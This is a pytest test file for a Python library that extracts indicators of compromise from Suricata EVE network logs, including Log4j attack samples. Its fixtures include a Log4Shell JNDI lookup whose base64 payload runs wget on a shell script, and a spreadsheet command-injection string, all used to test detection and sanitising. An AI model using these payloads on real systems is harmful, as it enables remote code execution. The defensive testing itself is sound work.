"""The table of indicators, against what was planted and against plain loops over the lines."""

from __future__ import annotations

import gzip
import ipaddress
import json
import re
from collections import defaultdict
from collections.abc import Iterator
from datetime import datetime
from importlib import resources
from pathlib import Path
from typing import Any
from urllib.parse import quote

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

import suricata_eve
from suricata_eve import EveOptionError, EveTypeError, MissingColumnError
from suricata_eve.analysis import indicators
from suricata_eve.analysis.iocs.kinds import KINDS, meaning

DATA = Path(__file__).parent.parent / "data"
COLUMNS = {
    "kind": pa.string(),
    "indicator": pa.string(),
    "count": pa.int64(),
    "first_seen": pa.timestamp("us", "UTC"),
    "last_seen": pa.timestamp("us", "UTC"),
    "fields": pa.list_(pa.string()),
    "scope": pa.string(),
}
DTYPES = {name: pd.ArrowDtype(kind) for name, kind in COLUMNS.items()}


@pytest.fixture(scope="module", params=["sample7", "sample8"])
def sample(request: pytest.FixtureRequest) -> pd.DataFrame:
    frame: pd.DataFrame = request.getfixturevalue(request.param)
    return frame


@pytest.fixture(scope="module")
def table(sample: pd.DataFrame) -> pd.DataFrame:
    return indicators(sample)


def of_kind(table: pd.DataFrame, *kinds: str) -> set[str]:
    return set(table.loc[table["kind"].isin(kinds), "indicator"])


def frame_of(*events: dict[str, Any]) -> pd.DataFrame:
    """Return the frame of some events, a second apart."""
    lines = [
        json.dumps({"timestamp": f"2022-01-01T00:00:{place:02}.000000+0000"} | event)
        for place, event in enumerate(events)
    ]
    return suricata_eve.read_eve(("\n".join(lines) + "\n").encode())


# What was planted.


def test_every_callback_host_is_there(table: pd.DataFrame, truth: dict[str, Any]) -> None:
    """But the one that is a template, and no host."""
    planted = {host for host in truth["callback_hosts"] if "$" not in host}

    assert len(planted) == 12
    assert planted <= of_kind(table, "ipv4", "ipv6", "domain")
    assert not table["indicator"].str.contains("hostName").any()


def test_every_url_of_a_decoded_payload_is_there(
    table: pd.DataFrame, truth: dict[str, Any]
) -> None:
    texts = [payload["decoded"] for payload in truth["payloads"].values()]
    texts += [
        payload["inner"]["decoded"] for payload in truth["payloads"].values() if "inner" in payload
    ]
    urls = {url for text in texts for url in re.findall(r"http://[^\s;'\")>&]+", text)}
    hosts = {host for text in texts for host in re.findall(r"\b\d+\.\d+\.\d+\.\d+\b", text)}

    assert len(urls) > 15
    assert urls <= of_kind(table, "url")
    assert hosts <= of_kind(table, "ipv4")
    scripts = table[table["indicator"].isin(urls)]
    assert all(
        any(field.endswith(" (decoded)") for field in fields) for fields in scripts["fields"]
    )


def test_names_of_files_in_payloads_are_no_domains(table: pd.DataFrame) -> None:
    domains = table.loc[table["kind"] == "domain", "indicator"]

    assert not domains.str.contains(r"\.(?:sh|ps1|gz|php|py|js)$").any()


def test_planted_hashes_names_and_addresses_are_there(
    table: pd.DataFrame, truth: dict[str, Any]
) -> None:
    special = truth["special"]
    files = special["shell_script_download"]

    assert {file["md5"] for file in files} <= of_kind(table, "md5")
    assert {file["sha256"] for file in files} <= of_kind(table, "sha256")
    names = {special[name][0]["rrname"] for name in ("dns_callback_query", "dns_nxdomain")}
    assert names <= of_kind(table, "domain")
    assert {"anna@example.com", "info@example.org", "mozilla@example.com"} == of_kind(
        table, "email"
    )
    sides = {
        str(ipaddress.ip_address(flow[side]))
        for flow in [*truth["log4j_flows"], *truth["decoys"]]
        for side in ("src_ip", "dest_ip")
    }
    assert sides <= of_kind(table, "ipv4", "ipv6")


def test_the_cache_name_of_a_decoy_is_no_hash(table: pd.DataFrame) -> None:
    """It is in a URL: /static/d41d8cd98f00b204e9800998ecf8427e.js."""
    assert "d41d8cd98f00b204e9800998ecf8427e" not in of_kind(table, "md5")


# Against loops.


def leaves(value: Any, path: str = "") -> Iterator[tuple[str, str, str]]:
    """Yield column, path and text of every text in an event."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from leaves(inner, f"{path}.{key}" if path else key)
    elif isinstance(value, list):
        for inner in value:
            for _, below, text in leaves(inner, path):
                yield path, below, text
    elif isinstance(value, str):
        yield path, path, value


SAFE = "!$&'()*+,;=:@/?#%._~-"  # of RFC 3986, but for square brackets
DOMAIN = re.compile(
    r"(?=.{1,253}\Z)(?:[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?\.)+(?:[a-z]{2,63}|xn--[a-z0-9-]{0,58}[a-z0-9])"
)


def host(text: str) -> tuple[str, str] | None:
    text = text.lower() if text.isascii() else text
    try:
        address = ipaddress.ip_address(text.strip("[]").removeprefix("ipv6:"))
    except ValueError:
        name = text.removesuffix(".")
        return ("domain", name) if DOMAIN.fullmatch(name) else None
    mapped = getattr(address, "ipv4_mapped", None)  # releases of Python write it in either way
    return f"ipv{address.version}", f"::ffff:{mapped}" if mapped else str(address)


def told(path: str, text: str) -> tuple[str, str] | None:
    """Return what a field with a meaning holds."""
    means = meaning(path)
    if means is None:
        return None
    if means.form == "hash":
        return means.kind, text.lower().replace(":", "")
    if means.form == "common_name":
        found = re.search(r"CN=(?:\*\.)?([^,/\s]+)", text)
        return host(found[1]) if found else None
    if means.form == "link":
        return host(re.split(r"[/:?#]", text)[0])
    if path == "http.hostname":
        text = re.sub(r"\A([^:]*|\[.*\]):[0-9]+\Z", r"\1", text)
    found_host = host(text.removeprefix("*.") if means.form == "host" else text)
    return (
        None if means.form == "address" and found_host and found_host[0] == "domain" else found_host
    )


def expected(
    lines: list[bytes],
) -> dict[tuple[str, str], tuple[int, datetime, datetime, list[str]]]:
    times: dict[tuple[str, str], list[datetime]] = defaultdict(list)
    fields: dict[tuple[str, str], set[str]] = defaultdict(set)
    for line in lines:
        event = json.loads(line)
        mine = set()
        for column, path, text in leaves(event):
            if found := told(path, text):
                mine.add(found)
                fields[found].add(column)
        for found in mine:
            times[found].append(datetime.fromisoformat(event["timestamp"]))
    return {
        found: (len(seen), min(seen), max(seen), sorted(fields[found]))
        for found, seen in times.items()
    }


def assert_as_expected(table: pd.DataFrame, lines: list[bytes]) -> None:
    table = table[table["kind"] != "url"]
    rows = zip(
        zip(table["kind"], table["indicator"], strict=True),
        zip(
            table["count"].tolist(),
            table["first_seen"].tolist(),
            table["last_seen"].tolist(),
            map(list, table["fields"]),
            strict=True,
        ),
        strict=True,
    )
    assert dict(rows) == expected(lines)


def test_fields_give_what_loops_over_the_lines_give(
    sample7: pd.DataFrame, sample8: pd.DataFrame
) -> None:
    for frame, packed in (
        (sample7, resources.files("suricata_eve") / "sample" / "log4j.json.gz"),
        (sample8, DATA / "log4j-suricata8.json.gz"),
    ):
        assert_as_expected(
            indicators(frame, sources="fields"), gzip.decompress(packed.read_bytes()).splitlines()
        )


def test_fields_of_larger_files_give_what_loops_give(corpus_files: list[Path]) -> None:
    for path in corpus_files:
        lines = gzip.decompress(path.read_bytes()).splitlines()
        assert_as_expected(indicators(suricata_eve.read_eve(path), sources="fields"), lines)


# The table.


def test_the_columns_and_the_order_are_as_promised(table: pd.DataFrame) -> None:
    assert table.dtypes.to_dict() == DTYPES
    assert table.index.equals(pd.RangeIndex(len(table)))
    order = [
        (KINDS.index(kind), -count, indicator)
        for kind, count, indicator in zip(
            table["kind"], table["count"].tolist(), table["indicator"], strict=True
        )
    ]
    assert order == sorted(order)
    assert not table.duplicated(["kind", "indicator"]).any()
    assert not table.drop(columns="scope").isna().to_numpy().any()
    hosts = table["kind"].isin(["ipv4", "ipv6", "domain", "url", "email"])
    assert table["scope"].isna().tolist() == (~hosts).tolist()


@pytest.mark.parametrize(
    "frame",
    [
        pd.DataFrame({"timestamp": []}, dtype=object),
        pd.DataFrame({"timestamp": ["2022-01-01T00:00:00+0000"], "event_type": ["stats"]}),
        pd.DataFrame(columns=["timestamp", "src_ip", "http.url", "dns.answers"]),
    ],
    ids=["nothing", "stats", "no rows"],
)
def test_without_indicators_the_columns_are_the_same(frame: pd.DataFrame) -> None:
    found = indicators(frame)

    assert len(found) == 0
    assert found.dtypes.to_dict() == DTYPES
    assert found.index.equals(pd.RangeIndex(0))


def test_an_event_counts_once_and_all_its_fields_are_named() -> None:
    frame = frame_of(
        {"event_type": "http", "src_ip": "192.0.2.1", "dest_ip": "192.0.2.1", "http": {
            "hostname": "192.0.2.1", "url": "/", "xff": "192.0.2.1, 192.0.2.1"}},
        {"event_type": "alert", "flow": {"src_ip": "192.0.2.1"}, "alert": {
            "signature": "see http://b.example.com", "metadata": {"x": ["192.0.2.9"]}}},
        {"event_type": "flow", "src_ip": "192.0.2.2"},
    )  # fmt: skip
    found = indicators(frame)

    seconds = pd.to_datetime(
        ["2022-01-01T00:00:00Z", "2022-01-01T00:00:01Z", "2022-01-01T00:00:02Z"]
    )
    wanted = pd.DataFrame(
        {
            "kind": ["ipv4", "ipv4", "url"],
            "indicator": ["192.0.2.1", "192.0.2.2", "http://192.0.2.1/"],
            "count": [2, 1, 1],
            "first_seen": seconds[[0, 2, 0]],
            "last_seen": seconds[[1, 2, 0]],
            "fields": [
                ["dest_ip", "flow.src_ip", "http.hostname", "http.xff", "src_ip"],
                ["src_ip"],
                ["http.url"],
            ],
            "scope": ["documentation"] * 3,
        }
    ).astype(DTYPES)
    pd.testing.assert_frame_equal(found, wanted)


@pytest.mark.parametrize(
    ("http", "url"),
    [
        ({"hostname": "A.example.com", "url": "/x?y=z"}, "http://a.example.com/x?y=z"),
        ({"hostname": "a.example.com", "url": "/", "http_port": 80}, "http://a.example.com/"),
        ({"hostname": "a.example.com", "url": "/", "http_port": 8080}, "http://a.example.com:8080/"),
        ({"hostname": "a.example.com", "url": "/", "http_port": 0}, "http://a.example.com/"),
        ({"hostname": "2001:db8::1", "url": "/"}, "http://[2001:db8::1]/"),
        ({"hostname": "[2001:DB8::1]", "url": "/"}, "http://[2001:db8::1]/"),
        ({"hostname": "a.example.com:8080", "url": "/"}, "http://a.example.com:8080/"),
        ({"hostname": "a.example.com:80", "url": "/"}, "http://a.example.com/"),
        ({"hostname": "[2001:db8::1]:8080", "url": "/"}, "http://[2001:db8::1]:8080/"),
        ({"hostname": "a.example.com:1", "http_port": 8080, "url": "/"}, "http://a.example.com:8080/"),
        ({"hostname": "a.example.com:x", "url": "/"}, None),
        ({"hostname": "a.example.com", "url": "http://b.example.com/x"}, "http://b.example.com/x"),
        ({"hostname": "a.example.com", "url": '/a b\n"<>[.](.)(dot)(AT)%41'},
         "http://a.example.com/a%20b%0A%22%3C%3E%5B.%5D%28.%29%28dot%29%28AT%29%41"),
        ({"hostname": "a.example.com", "url": "/\u202e\x1b"}, "http://a.example.com/%E2%80%AE%1B"),
        ({"hostname": "a.example.com", "url": "/" + "a" * 9_000}, None),
        ({"hostname": "a.example.com", "url": "*"}, None),
        ({"hostname": "a.example.com", "url": "a.example.com:443"}, None),
        ({"hostname": "localhost", "url": "/"}, None),
        ({"hostname": "${jndi", "url": "/"}, None),
        ({"hostname": "a.example.com, b.example.com", "url": "/"}, None),
        ({"hostname": "a.example.com/x?", "url": "/"}, None),
        ({"hostname": "u@a.example.com", "url": "/"}, None),
        ({"url": "/"}, None),
        ({"hostname": "a.example.com"}, None),
    ],
)  # fmt: skip
def test_a_url_is_put_together_of_host_port_and_path(http: dict[str, Any], url: str | None) -> None:
    # The second event has all columns.
    frame = frame_of(
        {"http": http}, {"http": {"hostname": "c.example.com", "url": "/c", "http_port": 1}}
    )
    found = indicators(frame, "url")

    assert set(found["indicator"]) == {"http://c.example.com:1/c"} | ({url} if url else set())


def test_urls_of_events_are_those_that_loops_put_together(sample: pd.DataFrame) -> None:
    expected: dict[str, int] = defaultdict(int)
    columns = [sample[f"http.{name}"].tolist() for name in ("hostname", "http_port", "url")]
    for name, port, path in zip(*columns, strict=True):
        found_host = None if pd.isna(name) else host(name)
        if found_host and not pd.isna(path) and path.startswith("/"):
            text = f"[{found_host[1]}]" if found_host[0] == "ipv6" else found_host[1]
            shown = "" if pd.isna(port) or port in (0, 80) else f":{port}"
            url = f"http://{text}{shown}{quote(path, safe=SAFE)}"
            if len(url) <= 8_192:
                expected[url] += 1
    table = indicators(sample, "url", sources="fields").set_index("indicator")["count"]

    assert len(expected) > 100
    assert table.to_dict() == expected


def test_sources_are_told_apart() -> None:
    encoded = "d2dldCBodHRwOi8vMTkyLjAuMi43Ny94LnNo"
    lookup = f"${{${{lower:j}}ndi:ldap://cb.example.net:1389/Basic/Command/Base64/{encoded}}}"
    frame = frame_of(
        {"src_ip": "192.0.2.1", "http": {"http_user_agent": f"x@example.com {lookup}"}}
    )

    def values(*sources: Any) -> set[str]:
        return set(indicators(frame, sources=sources)["indicator"])

    link = lookup[16:-1]
    assert values("fields") == {"192.0.2.1"}
    assert values("text") == {"x@example.com", "example.com", link, "cb.example.net"}
    assert values("payloads") == {"http://192.0.2.77/x.sh", "192.0.2.77", link, "cb.example.net"}
    assert values("fields", "text", "payloads") == {
        *values("fields"),
        *values("text"),
        *values("payloads"),
    }
    fields = indicators(frame).set_index("indicator")["fields"]
    assert list(fields["cb.example.net"]) == [
        "http.http_user_agent",
        "http.http_user_agent (decoded)",
    ]
    assert list(fields["192.0.2.77"]) == ["http.http_user_agent (decoded)"]


def test_kinds_choose_rows_and_change_none(sample: pd.DataFrame, table: pd.DataFrame) -> None:
    for kind in KINDS:
        wanted = table[table["kind"] == kind].reset_index(drop=True)
        pd.testing.assert_frame_equal(indicators(sample, kind), wanted)  # type: ignore[arg-type]
    both = table[table["kind"].isin(["ja3", "domain"])].reset_index(drop=True)
    pd.testing.assert_frame_equal(indicators(sample, ["ja3", "domain"]), both)


def test_defang_changes_how_indicators_are_written(
    sample: pd.DataFrame, table: pd.DataFrame
) -> None:
    found = indicators(sample, defang=True)

    pd.testing.assert_frame_equal(found.drop(columns="indicator"), table.drop(columns="indicator"))
    pd.testing.assert_series_equal(suricata_eve.refang(found["indicator"]), table["indicator"])
    written = found["indicator"][found["kind"].isin(["ipv4", "domain", "email"])]
    assert not written.str.contains(r"[^\[]\.").any()
    assert not found["indicator"].str.contains(r"^(?:https?|ldaps?|rmi|iiop):").any()


def test_fingerprints_and_hashes_are_checked_and_spelled_alike() -> None:
    x509, ja4 = "ab" * 19 + "cd", "t13d1516h2_8daaf6152771_b36669dc019e"
    cyu = [{"hash": "3" * 32, "string": "46,PAD"}, {"hash": "3" * 32, "string": "x"}]
    frame = frame_of(
        {"tls": {"fingerprint": "AB:" * 19 + "cd", "ja3": {"hash": "A" * 32}, "ja4": ja4}},
        {"tls": {"fingerprint": x509, "ja3": {"hash": "x" * 32}, "ja3s": {"hash": "a" * 31}}},
        {"ssh": {"client": {"hassh": {"hash": "1" * 32}}, "server": {"hassh": {"hash": "2" * 32}}}},
        {"quic": {"cyu": cyu}},
        {"fileinfo": {"sha256": "F" * 64, "md5": "=cmd"}, "files": [{"sha256": "f" * 64}]},
        {"email": {"body_md5": "4" * 32}},
    )
    found = indicators(frame)

    assert list(zip(found["kind"], found["indicator"], found["count"].tolist(), strict=True)) == [
        ("sha256", "f" * 64, 1),
        ("ja3", "a" * 32, 1),
        ("ja4", ja4, 1),
        ("hassh", "1" * 32, 1),
        ("hassh_server", "2" * 32, 1),
        ("cyu", "3" * 32, 1),
        ("x509_sha1", x509, 2),
    ]


@pytest.mark.parametrize(
    ("event", "found"),
    [
        ({"email": {"url": ["www.a.example.com/x.html", "b.example.net:81/", "x"]}},
         {"www.a.example.com", "b.example.net"}),
        ({"email": {"url": ["https://a.example.com/x"]}},
         {"a.example.com", "https://a.example.com/x"}),
        ({"email": {"from": '"x, y.ch" <a@example.com>', "subject_md5": "0" * 32}},
         {"a@example.com", "example.com"}),
        ({"email": {"message_id": "<a.b@a.example.com>", "references": ["<c@b.example.com>"],
                    "in_reply_to": "<c@b.example.com>", "x_originating_ip": "[192.0.2.1]"}},
         {"192.0.2.1"}),
        ({"smtp": {"helo": "[192.0.2.1]"}}, {"192.0.2.1"}),
        ({"smtp": {"helo": "[IPv6:2001:db8::1]"}}, {"2001:db8::1"}),
        ({"tls": {"subject": "C=EE, O=x, CN=*.a.example.com", "issuerdn": "CN=ca.example.com"}},
         {"a.example.com"}),
        ({"tls": {"subject": "CN=Example CA R3", "serial": "2B:A2:F5:3B:B5:85:83:75"}}, set()),
        ({"tls": {"subjectaltname": ["*.a.example.com", "localhost", "192.0.2.1"]}},
         {"a.example.com", "192.0.2.1"}),
        ({"alert": {"xff": "192.0.2.1", "signature": "192.0.2.2", "references": ["http://a.bc/"]}},
         {"192.0.2.1"}),
        ({"alert": {"source": {"ip": "192.0.2.1"}, "target": {"ip": "192.0.2.2"}}},
         {"192.0.2.1", "192.0.2.2"}),
        ({"http": {"xff": "192.0.2.1, 2001:db8::1", "org_src_ip": "192.0.2.2"}},
         {"192.0.2.1", "2001:db8::1", "192.0.2.2"}),
        ({"http": {"hostname": "a.example.com:8080"}}, {"a.example.com"}),
        ({"http": {"hostname": "[2001:db8::1]:8080"}}, {"2001:db8::1"}),
        ({"http": {"hostname": "192.0.2.1:8080"}}, {"192.0.2.1"}),
        ({"http": {"hostname": "2001:db8::1"}}, {"2001:db8::1"}),
        ({"dhcp": {"assigned_ip": "192.0.2.1", "subnet_mask": "255.255.255.0",
                   "routers": ["192.0.2.2"], "dns_servers": ["192.0.2.3"]}},
         {"192.0.2.1", "192.0.2.2", "192.0.2.3"}),
        ({"snmp": {"trap_address": "192.0.2.1", "vars": ["1.3.6.1"], "trap_oid": "1.3.6.1"}},
         {"192.0.2.1"}),
        ({"dns": {"grouped": {"A": ["192.0.2.1"], "MX": ["a.example.com"],
                              "SRV": [{"name": "b.example.com", "port": 1}],
                              "SOA": [{"mname": "c.example.com", "rname": "d.example.com"}],
                              "TXT": ["v=spf1 ip4:192.0.2.4 -all", "e.example.com"]}}},
         {"192.0.2.1", "a.example.com", "b.example.com", "c.example.com", "192.0.2.4"}),
        ({"bittorrent_dht": {"response": {"values": [{"ip": "192.0.2.1", "port": 1}]}}},
         {"192.0.2.1"}),
        ({"stats": {"uptime": 1}, "capture_file": "/x/192.0.2.1.pcap", "host": "a.example.com"},
         set()),
    ],
)  # fmt: skip
def test_each_field_is_read_for_what_it_means(event: dict[str, Any], found: set[str]) -> None:
    assert set(indicators(frame_of(event))["indicator"]) == found


def test_a_plain_json_normalize_frame_will_do() -> None:
    events: list[dict[str, Any]] = [
        {"timestamp": "2022-01-01T00:00:00.000000+0000", "src_ip": "192.0.2.1", "src_port": 1,
         "dns": {"answers": [{"rrname": "a.example.com", "rdata": "192.0.2.2", "ttl": 1}]}},
        {"timestamp": "2022-01-01T00:00:01.000000+0000",
         "http": {"hostname": "b.example.com", "url": "/", "http_port": 81}},
        {"timestamp": None, "src_ip": "192.0.2.1", "http": {"url": 5}},
    ]  # fmt: skip
    frame = pd.json_normalize(events)
    before = frame.copy()
    found = indicators(frame)

    assert list(zip(found["indicator"], found["count"].tolist(), strict=True)) == [
        ("192.0.2.1", 2),
        ("192.0.2.2", 1),
        ("a.example.com", 1),
        ("b.example.com", 1),
        ("http://b.example.com:81/", 1),
    ]
    assert found["last_seen"].iloc[0] == pd.Timestamp("2022-01-01", tz="UTC")
    pd.testing.assert_frame_equal(frame, before)


def test_an_indicator_without_a_time_has_none() -> None:
    frame = pd.DataFrame({"timestamp": [None, None], "src_ip": ["192.0.2.1", None]}, dtype=object)
    found = indicators(frame)

    assert found["count"].tolist() == [1]
    assert found[["first_seen", "last_seen"]].isna().to_numpy().all()


def test_the_frame_is_not_changed_and_labels_do_not_matter(sample: pd.DataFrame) -> None:
    some = sample.iloc[::7]
    labelled = some.set_axis(pd.Index(np.zeros(len(some), int)), axis=0)
    before = labelled.copy()

    pd.testing.assert_frame_equal(indicators(labelled), indicators(some))
    pd.testing.assert_frame_equal(labelled, before)


def test_chunks_do_not_matter(sample: pd.DataFrame, table: pd.DataFrame) -> None:
    """All rows of a column in one chunk, and in chunks that begin anywhere."""
    whole = pa.Table.from_pandas(sample, preserve_index=False)
    pieces = pa.concat_tables([whole.slice(0, 7), whole.slice(7, 5_000), whole.slice(5_007)])
    for data in (whole.combine_chunks(), pieces):
        frame = pd.DataFrame(
            {
                name: pd.arrays.ArrowExtensionArray(column)
                for name, column in zip(data.column_names, data.columns, strict=True)
            }
        )
        pd.testing.assert_frame_equal(indicators(frame), table)


@pytest.mark.parametrize(
    ("options", "error", "message"),
    [
        ({"kinds": "ip"}, EveOptionError, r"kinds has no choice 'ip'; choose from 'ipv4'"),
        ({"kinds": [None]}, EveOptionError, "kinds has no choice None"),
        ({"kinds": 4}, EveTypeError, "kinds takes names such as 'domain', not 4"),
        ({"sources": "all"}, EveOptionError, r"sources has no choice 'all'; choose from 'fields'"),
        ({"sources": []}, EveOptionError, "sources is empty"),
    ],
    ids=str,
)
def test_a_wrong_option_is_named(options: Any, error: type[Exception], message: str) -> None:
    with pytest.raises(error, match=message):
        indicators(pd.DataFrame({"timestamp": []}), **options)


def test_the_timestamp_is_needed() -> None:
    with pytest.raises(MissingColumnError, match="indicators"):
        indicators(pd.DataFrame({"src_ip": ["192.0.2.1"]}))


def test_a_hostile_frame_gives_safe_indicators() -> None:
    """Control characters, marks that turn the direction, a megabyte: none of it comes out."""
    hostile = [
        "\x00\x1b[2J\u202e",
        "=cmd|' /C calc'!A0",
        "${jndi:ldap://" * 2_000,
        "." * 1_000_000,
    ]
    frame = frame_of(
        *(
            {
                "src_ip": text,
                "http": {"hostname": text, "url": f"/{text}", "http_user_agent": f"http://{text}"},
                "dns": {"rrname": text, "answers": [{"rdata": text}]},
                "fileinfo": {"sha256": text},
                "tls": {
                    "sni": f"a.example.com{text}",
                    "subject": f"CN={text}",
                    "fingerprint": text,
                },
            }
            for text in hostile
        )
    )

    assert indicators(frame)["indicator"].tolist() == []
